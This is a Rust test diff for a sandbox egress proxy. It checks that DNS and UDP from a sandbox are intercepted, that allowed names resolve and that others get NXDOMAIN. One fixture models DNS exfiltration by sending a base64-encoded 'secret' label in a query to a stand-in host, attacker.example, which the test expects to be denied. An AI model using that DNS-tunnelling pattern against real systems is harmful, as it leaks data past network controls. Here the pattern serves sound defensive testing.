@@ -71,6 +71,18 @@ fn udp_listener(ns: &str, addr: &str) -> UdpSocket {
     s
 }
 
+/// A DNS query for the A record of `name`, recursion desired.
+fn dns_query(id: u16, name: &str) -> Vec<u8> {
+    let mut q = id.to_be_bytes().to_vec();
+    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
+    for label in name.split('.') {
+        q.push(u8::try_from(label.len()).unwrap());
+        q.extend_from_slice(label.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 1, 0, 1]);
+    q
+}
+
 fn received(s: &UdpSocket) -> bool {
     let mut buf = [0u8; 512];
     s.recv_from(&mut buf).is_ok()
@@ -121,6 +133,7 @@ async fn an_attached_sandbox_reaches_only_the_proxy() {
         .netns(&lab.gw)
         .transparent(&format!("0.0.0.0:{TRANSPARENT}"))
         .listen(&format!("0.0.0.0:{EXPLICIT}"))
+        .args(&["--dns", &format!("0.0.0.0:{DNS}")])
         .start();
     let resolve = |host: &str, port: u16| format!("{host}:{port}:{NOWHERE}");
 
@@ -161,20 +174,40 @@ async fn an_attached_sandbox_reaches_only_the_proxy() {
     attempt(a, "10.213.0.6:7000");
     p.wait_log("to sandbox b", |v| v["dst_host"] == "10.213.0.6" && v["reason"] == "ip_not_allowed");
 
-    // UDP anywhere, and DNS to any resolver but Sandgate's: nothing arrives.
+    // UDP anywhere, and DNS to any resolver but Sandgate's: nothing arrives. DNS sent anywhere
+    // is answered by Sandgate: allowed names resolved, others NXDOMAIN.
     let host_udp = udp_listener(&lab.gw, "0.0.0.0:9999");
     let host_dns = udp_listener(&lab.gw, "0.0.0.0:53");
-    let sandgate_dns = udp_listener(&lab.gw, &format!("0.0.0.0:{DNS}"));
-    in_ns(a, || {
+    let answers = in_ns(a, || {
         let s = UdpSocket::bind("0.0.0.0:0").unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
         for to in ["10.213.0.1:9999", "198.18.0.10:9999", "10.213.0.5:9999"] {
             let _ = s.send_to(b"udp escape", to);
         }
-        let _ = s.send_to(b"dns query", "198.18.0.53:53");
+        let mut answers = Vec::new();
+        for (id, name) in [(1u16, "origin.test"), (2, "evil.test"), (3, "c2VjcmV0.attacker.example")] {
+            s.send_to(&dns_query(id, name), "198.18.0.53:53").unwrap();
+            let mut buf = [0u8; 512];
+            let n = s.recv(&mut buf).unwrap_or(0);
+            answers.push(buf[..n].to_vec());
+        }
+        answers
     });
     assert!(!received(&host_udp), "UDP reached the gateway");
     assert!(!received(&host_dns), "DNS reached a resolver other than Sandgate's");
-    assert!(received(&sandgate_dns), "DNS was not redirected to Sandgate's port");
+    let rcode = |m: &[u8]| m.get(3).map(|b| b & 0x0f);
+    assert_eq!(rcode(&answers[0]), Some(0), "allowed name answered");
+    assert!(
+        answers[0].ends_with(&[127, 0, 0, 1]),
+        "with Sandgate's answer (the policy's resolve entry): {:?}",
+        answers[0]
+    );
+    assert_eq!(rcode(&answers[1]), Some(3), "denied name: NXDOMAIN");
+    assert_eq!(rcode(&answers[2]), Some(3), "an exfiltrating query goes nowhere");
+    p.wait_log("dns denial", |v| {
+        v["listener"] == "dns" && v["dst_host"] == "c2vjcmv0.attacker.example" && v["verdict"] == "deny"
+    });
+    assert!(p.metric("sandgate_proxy_connections_total", &[("listener", "dns"), ("verdict", "allow")]) >= 1.0);
 
     // ICMP through a raw socket: no echo reply.
     let replied = in_ns(a, || {
